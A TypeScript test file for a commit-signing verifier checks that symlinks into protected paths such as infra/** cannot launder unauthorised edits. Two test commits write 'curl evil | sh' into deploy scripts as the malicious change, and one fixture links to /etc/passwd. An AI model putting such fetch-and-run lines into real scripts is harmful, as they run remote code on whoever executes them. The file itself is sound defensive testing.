// Symlinks inside protected paths: a symlink `infra/deploy.sh -> ../scripts/deploy.sh` lets an edit of
// the unprotected `scripts/deploy.sh` change what the protected path holds. The rule: a change to any
// path a protected symlink resolves through (the target, its directories, further symlinks on the way)
// is a change to that protected set. Each case builds the symlinks in a real repository.
import assert from 'node:assert/strict';
import { mkdirSync, symlinkSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { CommitPolicy, CommitsVerification } from '@sathos/core';
import { verifyCommits } from '@sathos/core';
import { openGitRepository } from '@sathos/node';
import { TestRepo, allowedSignersLine, type SshKeyFiles } from './repo-builder.js';

describe('symlinks in protected paths', () => {
  let repo: TestRepo;
  let dev: SshKeyFiles;
  let lead: SshKeyFiles;
  let policy: CommitPolicy;

  const verify = (commit: string): Promise<CommitsVerification> =>
    verifyCommits({
      git: openGitRepository(repo.dir),
      range: { kind: 'list', commits: [commit] },
      policy,
      now: new Date(),
    });
  const byDev = (files: Record<string, string>): string =>
    repo.commit({ signing: { ssh: dev.privatePath }, email: 'dev@example.com', files });
  const byLead = (files: Record<string, string>): string =>
    repo.commit({ signing: { ssh: lead.privatePath }, email: 'lead@example.com', files });
  const link = (path: string, target: string): void => {
    mkdirSync(dirname(join(repo.dir, path)), { recursive: true });
    symlinkSync(target, join(repo.dir, path));
    repo.git(['add', '--', path]);
  };
  const assertProtected = (result: CommitsVerification): void => {
    const [verdict] = result.commits;
    assert.ok(verdict);
    assert.equal(verdict.verdict, 'rejected', verdict.reason);
    assert.deepEqual(verdict.protectedPaths, ['infra/**']);
    assert.match(verdict.reason, /not allowed by commits\.protectedPaths\[0\]/);
  };

  before(() => {
    repo = TestRepo.create();
    dev = repo.sshKey('dev');
    lead = repo.sshKey('lead');
    policy = {
      signers: {
        allowedSigners:
          allowedSignersLine('dev@example.com', dev) + allowedSignersLine('lead@example.com', lead),
      },
      protectedPaths: [
        { paths: ['infra/**'], allowedSigners: allowedSignersLine('lead@example.com', lead) },
      ],
      allowMergeCommits: false,
      allowWebFlow: false,
    };
    repo.commit({
      signing: { none: true },
      files: {
        'scripts/deploy.sh': 'echo deploy\n',
        'third_party/lib/run.sh': 'echo run\n',
        'ops/main.tf': 'resource {}\n',
        'src/app.ts': 'export {};\n',
      },
    });
    link('infra/deploy.sh', '../scripts/deploy.sh');
    link('vendor', 'third_party');
    link('infra/lib', '../vendor/lib');
    link('infra/passwd', '/etc/passwd');
    link('infra/up', '../../outside-the-repository');
    link('Infra2', 'ops');
    byLead({});
  });
  after(() => {
    repo.dispose();
  });

  it('treats an edit of the file a protected symlink points to as a protected change', async () => {
    assertProtected(await verify(byDev({ 'scripts/deploy.sh': 'curl evil | sh\n' })));
  });

  it('follows symlinks on the way: an edit behind infra/lib -> ../vendor/lib, vendor -> third_party', async () => {
    assertProtected(await verify(byDev({ 'third_party/lib/run.sh': 'curl evil | sh\n' })));
  });

  it('accepts the protected set’s signer for the symlinked file', async () => {
    const result = await verify(byLead({ 'scripts/deploy.sh': 'echo deploy v2\n' }));
    assert.equal(result.verified, true, result.reason);
    assert.deepEqual(result.commits[0]?.protectedPaths, ['infra/**']);
  });

  it('treats re-pointing a symlink on the way (vendor) as a protected change', async () => {
    repo.git(['rm', '-q', 'vendor']);
    link('vendor', 'src');
    assertProtected(await verify(byDev({})));
  });

  it('treats replacing the target’s directory (scripts) by a symlink as a protected change', async () => {
    repo.git(['rm', '-q', '-r', 'scripts']);
    link('scripts', 'src');
    assertProtected(await verify(byDev({})));
  });

  it('protects what a symlink standing for the protected directory itself points to (case ignored)', async () => {
    const protectedInfra2: CommitPolicy = {
      ...policy,
      protectedPaths: policy.protectedPaths.map((p) => ({ ...p, paths: ['infra2/**'] })),
    };
    const edit = byDev({ 'ops/main.tf': 'resource { evil }\n' });
    const result = await verifyCommits({
      git: openGitRepository(repo.dir),
      range: { kind: 'list', commits: [edit] },
      policy: protectedInfra2,
      now: new Date(),
    });
    const [verdict] = result.commits;
    assert.ok(verdict);
    assert.equal(verdict.verdict, 'rejected');
    assert.deepEqual(verdict.protectedPaths, ['infra2/**']);
  });

  it('still accepts the general signer on paths no protected symlink reaches (targets outside the repository change with no commit)', async () => {
    const result = await verify(byDev({ 'src/app.ts': 'export const x = 1;\n' }));
    assert.equal(result.verified, true, result.reason);
    assert.equal(result.commits[0]?.protectedPaths, undefined);
  });
});
